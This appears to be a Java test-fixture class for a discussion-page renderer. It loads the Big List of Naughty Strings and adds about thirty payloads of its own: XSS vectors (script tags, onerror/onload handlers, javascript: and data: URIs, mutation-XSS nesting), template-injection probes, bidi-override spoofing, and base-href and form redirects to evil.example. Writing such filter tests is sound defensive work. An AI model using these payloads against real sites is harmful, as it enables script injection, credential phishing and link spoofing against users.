package org.gaceta.pages.discussion;

import com.fasterxml.jackson.core.type.TypeReference;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.List;
import java.util.stream.Stream;

/// What has broken other people's pages. The first list is the Big List of Naughty Strings
/// (github.com/minimaxir/big-list-of-naughty-strings, MIT, its licence beside it).
public final class NaughtyStrings {
  private static final String LIST = "/naughty/blns.json";

  /// Ways past filters that the list has not.
  private static final List<String> MORE =
      List.of(
          "</p></div></li></ol><h1>out</h1>",
          "</textarea><script>window.ran=1</script>",
          "</template><img src=x onerror=window.ran=1>",
          "</title><svg/onload=window.ran=1>",
          "--><script>window.ran=1</script><!--",
          "]]><script>window.ran=1</script>",
          "\"><a href=\"javascript:window.ran=1\" autofocus onfocus=window.ran=1>",
          "' onmouseover='window.ran=1",
          "https://example.org/\"onmouseover=\"window.ran=1",
          "https://example.org/'><script>window.ran=1</script>",
          "https://example.org/?q=<svg onload=window.ran=1>&lt;b&gt;",
          "HtTpS://example.org/${7*7}#{7*7}{{7*7}}<%=7*7%>",
          "javascript:window.ran=1//https://example.org",
          "java\tscript:window.ran=1",
          "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
          "[x](javascript:window.ran=1) ![x](x\"onerror=window.ran=1)",
          "<a href=\"https://example.org\" onclick=window.ran=1>x</a>",
          "&#60;script&#62;window.ran=1&#60;/script&#62; &lt;b&gt; &amp;amp;",
          "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
          "<noscript><p title=\"</noscript><img src=x onerror=window.ran=1>\">",
          "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=0>",
          "<form action=https://evil.example><input name=replyTo><button>x</button></form>",
          "\u202Egnihtyreve\u202D \u2066a\u2067b\u2068c \u2069\u2069\u202C\u202C",
          "مرحبا\u202E abc \u2069 https://example.org/\u202Efdp.exe",
          "Z" + "\u0351\u036B\u0343\u0321\u0316".repeat(400),
          "W" + "i".repeat(3_000) + "de",
          "👩‍❤️‍💋‍👨🏳️‍🌈🇪🇸👨🏿‍🚀 ﷽ 𒐫 ꧅ ⸻",
          "\u200B\u200C\u200D\u2060\uFEFF\u00AD visible",
          "${article} @for(x) !{var y;} $unsafe{x} <%-- c --%>");

  private NaughtyStrings() {}

  /// All of them.
  public static List<String> all() {
    try (var list = NaughtyStrings.class.getResourceAsStream(LIST)) {
      var strings = new ObjectMapper().readValue(list, new TypeReference<List<String>>() {});
      return Stream.concat(strings.stream(), MORE.stream()).toList();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
